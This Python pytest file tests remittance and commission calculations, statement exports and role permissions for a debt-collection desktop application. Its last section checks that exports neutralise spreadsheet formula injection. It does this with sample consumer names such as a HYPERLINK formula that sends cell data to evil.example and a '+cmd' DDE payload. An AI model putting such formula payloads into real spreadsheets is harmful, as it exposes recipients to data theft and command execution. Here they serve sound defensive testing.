"""Remittance arithmetic on a hand-made portfolio, and the statement files, on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import datetime as dt
from decimal import Decimal

import openpyxl
import pytest
from pypdf import PdfReader

from ccs_desktop.models import Client, Payment
from ccs_desktop.models.enums import PaymentMethod, Role
from ccs_desktop.services.money import remittance
from ccs_desktop.services.context import Actor, PermissionDenied, ServiceError
from tests.factories import make_account, make_client, make_person

UTC = dt.timezone.utc
SUPERVISOR = Actor(None, "sam", Role.SUPERVISOR)
OCT = (dt.date(2026, 10, 1), dt.date(2026, 10, 31))


def pay(s, account, amount: str, on: dt.date, method=PaymentMethod.ACH, reverses=None) -> Payment:
    payment = Payment(account_id=account.id, amount=Decimal(amount), paid_on=on, method=method,
                      posted_at=dt.datetime.combine(on, dt.time(15), tzinfo=UTC), reverses_id=reverses)
    s.add(payment)
    s.flush()
    return payment


@pytest.fixture
def portfolio(session_factory):
    with session_factory() as s, s.begin():
        client = make_client(s, code="RMT", name="Remit Test Bank", commission_pct=Decimal("25.00"),
                             commission_tiers=[{"min_age_days": 730, "pct": "40.00"},
                                               {"min_age_days": 365, "pct": "33.00"}])
        young = make_account(s, client=client, client_account_number="Y1", charge_off_date=dt.date(2026, 6, 1))
        mid = make_account(s, client=client, client_account_number="M1", charge_off_date=dt.date(2025, 6, 1))
        old = make_account(s, client=client, client_account_number="O1", charge_off_date=dt.date(2024, 1, 1))
        undated = make_account(s, client=client, client_account_number="U1", charge_off_date=None,
                               placed_on=dt.date(2026, 9, 1))
        other = make_account(s, client=make_client(s), person=make_person(s))
        pay(s, young, "100.00", dt.date(2026, 10, 5))                            # 25%  -> 25.00
        pay(s, mid, "200.00", dt.date(2026, 10, 15), PaymentMethod.CARD)         # 33%  -> 66.00
        pay(s, old, "300.00", dt.date(2026, 10, 20), PaymentMethod.CLIENT_DIRECT)  # 40% -> 120.00 (paid to client)
        pay(s, young, "33.33", dt.date(2026, 10, 25))                            # 25%  -> 8.3325 -> 8.33
        bounced = pay(s, mid, "50.00", dt.date(2026, 9, 28))                     # September: not in October
        pay(s, mid, "-50.00", dt.date(2026, 10, 2), reverses=bounced.id)         # reversal at 33% -> -16.50
        pay(s, undated, "10.10", dt.date(2026, 10, 30))                          # 25%  -> 2.525 -> 2.53
        pay(s, young, "75.00", dt.date(2026, 11, 1))                             # November
        pay(s, other, "999.00", dt.date(2026, 10, 10))                           # another client
    return session_factory


def test_net_remittance_of_a_hand_made_month(portfolio):
    st = remittance.statement(portfolio, SUPERVISOR, "RMT", *OCT)
    assert [(l.account_number, l.amount, l.pct, l.commission, l.direct) for l in st.lines] == [
        ("M1", Decimal("-50.00"), Decimal("33.00"), Decimal("-16.50"), False),
        ("Y1", Decimal("100.00"), Decimal("25.00"), Decimal("25.00"), False),
        ("M1", Decimal("200.00"), Decimal("33.00"), Decimal("66.00"), False),
        ("O1", Decimal("300.00"), Decimal("40.00"), Decimal("120.00"), True),
        ("Y1", Decimal("33.33"), Decimal("25.00"), Decimal("8.33"), False),
        ("U1", Decimal("10.10"), Decimal("25.00"), Decimal("2.53"), False),
    ]
    assert st.collected_agency == Decimal("293.43") and st.collected_direct == Decimal("300.00")
    assert st.commission_agency == Decimal("85.36") and st.commission_direct == Decimal("120.00")
    assert st.commission_total == Decimal("205.36")
    assert st.remit_to_client == Decimal("88.07") and st.due_from_client == Decimal("0.00")


def test_gross_remittance_sends_everything_and_invoices_the_commission(portfolio):
    with portfolio() as s, s.begin():
        s.query(Client).filter_by(code="RMT").one().remit_gross = True
    st = remittance.statement(portfolio, SUPERVISOR, "RMT", *OCT)
    assert st.remit_to_client == Decimal("293.43") and st.due_from_client == Decimal("205.36")


def test_a_period_of_only_direct_payments_leaves_the_client_owing_commission(portfolio):
    day = dt.date(2026, 10, 20)
    st = remittance.statement(portfolio, SUPERVISOR, "RMT", day, day)
    assert st.collected_agency == 0 and st.remit_to_client == 0 and st.due_from_client == Decimal("120.00")


def test_statement_files_carry_the_same_figures(portfolio, tmp_path):
    st = remittance.statement(portfolio, SUPERVISOR, "RMT", *OCT)
    pdf = remittance.export(st, tmp_path / "rmt.pdf")
    text = " ".join(page.extract_text() for page in PdfReader(str(pdf)).pages)
    assert "Remit Test Bank (RMT)" in text and "Remittance to RMT (net)" in text
    assert "88.07" in text and "205.36" in text and "6 payments" in text
    assert "40.00% from 730 days" in text
    with remittance.export(st, tmp_path / "x.csv").open(newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    summary = {r[0]: r[1] for r in rows if len(r) == 2}
    assert summary["Total commission"] == "205.36" and summary["Remittance to RMT (net)"] == "88.07"
    header = rows.index(remittance.DETAIL_HEADERS)
    assert len(rows) - header - 1 == 6
    book = openpyxl.load_workbook(remittance.export(st, tmp_path / "x.xlsx"))
    values = {r[0]: r[1] for r in book["Summary"].iter_rows(values_only=True) if r and r[0]}
    assert Decimal(str(values["Total collected"])) == Decimal("593.43")
    assert book["Payments"].max_row == 7
    with pytest.raises(ServiceError, match=".doc"):
        remittance.export(st, tmp_path / "x.doc")


def test_collectors_cannot_see_remittance_and_bad_periods_are_refused(portfolio):
    with pytest.raises(PermissionDenied):
        remittance.statement(portfolio, Actor(None, "cole", Role.COLLECTOR), "RMT", *OCT)
    with pytest.raises(ServiceError, match="ends before it starts"):
        remittance.statement(portfolio, SUPERVISOR, "RMT", OCT[1], OCT[0])
    with pytest.raises(ServiceError, match="no client NOPE"):
        remittance.statement(portfolio, SUPERVISOR, "NOPE", *OCT)


def test_tier_rate_is_the_highest_tier_reached():
    tiers = [remittance.Tier(365, Decimal("33")), remittance.Tier(730, Decimal("40"))]
    assert [remittance.commission_pct(Decimal("25"), tiers, age) for age in (None, 0, 364, 365, 729, 730, 5000)] == [
        Decimal("25"), Decimal("25"), Decimal("25"), Decimal("33"), Decimal("33"), Decimal("40"), Decimal("40")]


# --- the files are safe to open ---------------------------------------------------------------------------

FORMULA_NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
                 "\t=1+1", "\r=1+1"]


@pytest.fixture
def hostile(session_factory):
    """A client whose consumers' names (from a placement file) are spreadsheet formulas or hold control
    characters that an .xlsx file cannot contain."""
    with session_factory() as s, s.begin():
        client = make_client(s, code="EVIL", name="=Evil Bank")
        for i, name in enumerate(FORMULA_NAMES):
            account = make_account(s, client=client, client_account_number=f"=E{i}",
                                   person=make_person(s, first_name=None, last_name=name))
            pay(s, account, "10.00", dt.date(2026, 10, 5 + i))
        control = make_client(s, code="CTRL", name="Control\x1b Bank")
        account = make_account(s, client=control, client_account_number="C\x07",
                               person=make_person(s, first_name="Pat\x1b", last_name="Doe\r\nJr\x0b"))
        pay(s, account, "10.00", dt.date(2026, 10, 5))
    return session_factory


def test_a_consumer_name_is_never_a_formula_in_the_excel_statement(hostile, tmp_path):
    st = remittance.statement(hostile, SUPERVISOR, "EVIL", *OCT)
    book = openpyxl.load_workbook(remittance.export(st, tmp_path / "evil.xlsx"))
    cells = [c for row in book["Payments"].iter_rows(min_row=2) for c in row] + \
            [c for row in book["Summary"].iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    names = [row[2] for row in book["Payments"].iter_rows(min_row=2, values_only=True)]
    assert names == ["'" + n.replace("\r", "\n") for n in FORMULA_NAMES]
    accounts = [row[1] for row in book["Payments"].iter_rows(min_row=2, values_only=True)]
    assert accounts == [f"'=E{i}" for i in range(6)]
    assert book["Summary"]["B1"].value == "'=Evil Bank (EVIL)"
    amounts = [row[5] for row in book["Payments"].iter_rows(min_row=2, values_only=True)]
    assert all(isinstance(a, (int, float)) and a == 10 for a in amounts)  # numbers stay numbers


def test_a_consumer_name_is_never_a_formula_in_the_csv_statement(hostile, tmp_path):
    st = remittance.statement(hostile, SUPERVISOR, "EVIL", *OCT)
    with remittance.export(st, tmp_path / "evil.csv").open(newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    assert rows[0] == ["Remittance statement", "EVIL", "'=Evil Bank"]
    detail = rows[rows.index(remittance.DETAIL_HEADERS) + 1:]
    assert [r[2] for r in detail] == ["'" + n.replace("\r", "\n") for n in FORMULA_NAMES]
    assert all(r[1].startswith("'=") for r in detail)
    assert [r[5] for r in detail] == ["10.00"] * 6
    summary = {r[0]: r[1] for r in rows if len(r) == 2}
    assert summary["Total collected"] == "60.00"


def test_control_characters_an_import_accepted_do_not_stop_the_excel_statement(hostile, tmp_path):
    st = remittance.statement(hostile, SUPERVISOR, "CTRL", *OCT)
    book = openpyxl.load_workbook(remittance.export(st, tmp_path / "control.xlsx"))
    row = next(book["Payments"].iter_rows(min_row=2, values_only=True))
    assert row[1:3] == ("C", "Pat Doe\nJr")  # ESC, BEL and vertical tab removed; the line break kept
    assert book["Summary"]["B1"].value == "Control Bank (CTRL)"
    assert Decimal(str(row[5])) == Decimal("10.00")


def test_the_command_line_writes_a_safe_excel_statement(tmp_path, capsys):
    from ccs_desktop import cli, db

    url = f"sqlite:///{(tmp_path / 'cli.sqlite3').as_posix()}"
    engine, factory = db.open_database(url)
    try:
        with factory() as s, s.begin():
            client = make_client(s, code="CLI")
            account = make_account(s, client=client, person=make_person(s, first_name=None,
                                                                           last_name="=1+1\x1b\r\nX"))
            pay(s, account, "12.50", dt.date(2026, 10, 7))
    finally:
        engine.dispose()
    out = tmp_path / "cli.xlsx"
    assert cli.main(["--database", url, "remittance", "--client", "CLI", "--from", "2026-10-01",
                     "--to", "2026-10-31", "--out", str(out)]) == 0
    cell = openpyxl.load_workbook(out)["Payments"]["C2"]
    assert cell.data_type == "s" and cell.value == "'=1+1\nX"


def test_the_statement_dialogs_client_list_is_for_supervisors(portfolio):
    with portfolio() as s, s.begin():
        make_client(s, code="AAA", name="Alpha Lending")
    codes = [code for code, _name in remittance.clients(portfolio, SUPERVISOR)]
    assert codes[0] == "AAA" and "RMT" in codes and codes == sorted(codes)
    assert ("RMT", "Remit Test Bank") in remittance.clients(portfolio, SUPERVISOR)
    with pytest.raises(PermissionDenied):
        remittance.clients(portfolio, Actor(None, "cole", Role.COLLECTOR))
